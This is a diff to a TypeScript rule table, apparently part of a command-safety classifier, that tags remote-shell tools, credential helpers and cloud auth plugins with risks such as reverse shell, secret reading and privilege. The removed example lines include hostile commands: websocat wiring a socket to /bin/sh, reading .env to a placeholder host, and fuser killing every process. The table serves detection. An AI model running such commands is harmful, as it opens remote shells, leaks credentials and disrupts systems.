@@ -15,64 +15,38 @@ import { contacts, credentialsIn } from '../roles.ts';
 /** Programs that hand a terminal, or a program, to whoever is on the other side. */
 export const remoteShells = (): readonly Program[] => [
 	rows('tmate upterm teleconsole sshx termshare warp-terminal', {
+		input: 'data',
 		also: (it) =>
 			it.has('-V') ? [] : [network('a tunnel'), exec(it), reverseShell('a terminal is shared with others')],
-		examples: { 'tmate -F': ['network a tunnel', 'exec tmate', 'opaque'], 'tmate -V': [] },
 	}),
 	rows('ttyd gotty wetty shellinabox shellinaboxd websocketd gs-netcat pwncat pwncat-cs rcat rustcat sbd', {
+		input: 'data',
 		also: (it) => [network('any host'), exec(it), reverseShell(`${it.name} ties a program to a connection`)],
-		examples: { 'ttyd -p 80 bash': ['network any host', 'exec ttyd', 'opaque'] },
 	}),
-	rows('websocat wscat', {
-		also: websocket,
-		examples: {
-			'websocat ws://e.example/': ['network e.example', 'exec websocat'],
-			'websocat ws://e.example/ exec:/bin/sh': ['network e.example', 'exec websocat', 'opaque'],
-			"websocat ws://e.example/ sh-c:'rm d'": ['network e.example', 'exec websocat', 'opaque', 'delete d'],
-			'websocat ws-l:0.0.0.0:1 cmd:sh': ['exec websocat', 'opaque'],
-			'websocat ws://e.example/ readfile:.env': ['network e.example', 'exec websocat', 'secret.read .env'],
-		},
-	}),
+	rows('websocat wscat', { input: 'data', also: websocket }),
 	rows('fuser', {
+		input: 'data',
 		also: (it) => [
 			exec(it),
 			...(it.has('-k', '--kill') && it.operands.some((word) => /^\/(\w+\/?)?$/.test(word.text))
 				? [privilege('stops every process')]
 				: []),
 		],
-		examples: {
-			'fuser -v a': ['exec fuser'],
-			'fuser -k 8080/tcp': ['exec fuser'],
-			'fuser --kill -9 --mount /': ['exec fuser', 'privilege stops every process'],
-			'fuser -km /home': ['exec fuser', 'privilege stops every process'],
-		},
 	}),
 	// Helpers of docker, git and the clouds that print what they keep.
 	rows(
 		'docker-credential git-credential-manager git-credential-manager-core git-credential-store git-credential-cache',
 		{
+			input: 'data',
 			also: (it) => [
 				exec(it),
 				...meaningsOf(it, [{ operands: /^(get|list|fill)\b/, means: [secret('a stored password')] }]),
 			],
-			examples: {
-				'echo r.example | docker-credential-desktop get': [
-					'exec docker-credential-desktop',
-					'secret.read a stored password',
-				],
-				'docker-credential-pass version': ['exec docker-credential-pass'],
-			},
 		},
 	),
 	rows('aws-iam-authenticator gke-gcloud-auth-plugin kubelogin aws_signing_helper saml2aws aws-sso okta-aws-cli', {
+		input: 'data',
 		also: (it) => [network('a cloud'), exec(it), secret('credentials of the cloud')],
-		examples: {
-			'aws-iam-authenticator token -i c': [
-				'network a cloud',
-				'exec aws-iam-authenticator',
-				'secret.read credentials of the cloud',
-			],
-		},
 	}),
 ];
 
